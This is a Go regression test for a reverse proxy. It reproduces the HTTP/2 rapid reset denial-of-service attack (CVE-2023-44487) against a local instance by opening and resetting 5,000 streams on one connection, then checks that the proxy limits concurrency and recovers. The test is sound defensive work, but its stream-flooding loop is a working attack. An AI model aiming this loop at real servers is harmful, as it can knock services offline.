package main

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// TestBinaryH2RapidReset is the HTTP/2 rapid reset attack (CVE-2023-44487)
// against the binary over h2c: 5,000 streams, each opened and reset at
// once, on one connection. Handlers of reset streams count against
// maxConcurrentStreams until they end, so the server behind never sees
// more requests at once than the limit, the streams beyond are refused,
// and the process's goroutines come back down (issue 25).
func TestBinaryH2RapidReset(t *testing.T) {
	var inFlight, peak, total atomic.Int32
	port := namedBackendFunc(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
		n := inFlight.Add(1)
		defer inFlight.Add(-1)
		total.Add(1)
		for p := peak.Load(); n > p && !peak.CompareAndSwap(p, n); p = peak.Load() {
		}
		time.Sleep(50 * time.Millisecond) // a slow server: what makes the attack hurt
		fmt.Fprint(w, "ok")
	})
	dir := t.TempDir()
	write(t, filepath.Join(dir, "r.yaml"), routeYAML("h", "h.test", "{name: h, port: 80}")+"---\n"+manifests("h", port, "127.0.0.1"))
	probe := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	p := startSluice(t, dir, "--entryPoints.probe.address="+probe, "--metrics.prometheus", "--metrics.prometheus.entryPoint=probe")
	eventually(t, p.addr, "h.test", "/", 200, "ok")
	before := goroutines(t, probe)

	c, err := net.Dial("tcp", p.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(30 * time.Second))
	go func() { _, _ = drainConn(c) }() // read and drop the server's frames
	fr := http2.NewFramer(c, c)
	c.Write([]byte(http2.ClientPreface))
	fr.WriteSettings()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	const streams = 5000
	start := time.Now()
	for i := 0; i < streams; i++ {
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "h.test"}, {":path", "/" + strconv.Itoa(i)}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		id := uint32(2*i + 1)
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			t.Logf("the server closed the connection after %d streams: %v", i, err)
			break
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			break
		}
	}
	t.Logf("%d streams opened and reset in %v", streams, time.Since(start).Round(time.Millisecond))
	time.Sleep(time.Second)
	if got := peak.Load(); got > 250 {
		t.Errorf("the server saw %d requests at once; maxConcurrentStreams is 250", got)
	}
	t.Logf("the server saw %d requests in all, at most %d at once", total.Load(), peak.Load())
	c.Close()
	// The process recovers: a normal request is served, goroutines return.
	eventually(t, p.addr, "h.test", "/", 200, "ok")
	deadline := time.Now().Add(10 * time.Second)
	for {
		after := goroutines(t, probe)
		if after <= before+20 {
			t.Logf("goroutines: %d before, %d after", before, after)
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines: %d before, %d after 10 s", before, after)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// goroutines reads go_goroutines from the metrics page at addr.
func goroutines(t *testing.T, addr string) int {
	t.Helper()
	_, _, body := getHeader(t, addr, "any", "/metrics")
	for _, l := range strings.Split(body, "\n") {
		if v, ok := strings.CutPrefix(l, "go_goroutines "); ok {
			n, _ := strconv.ParseFloat(v, 64)
			return int(n)
		}
	}
	t.Fatalf("no go_goroutines in:\n%s", body)
	return 0
}

// drainConn reads c until it fails.
func drainConn(c net.Conn) (int64, error) {
	buf := make([]byte, 32<<10)
	var n int64
	for {
		m, err := c.Read(buf)
		n += int64(m)
		if err != nil {
			return n, err
		}
	}
}
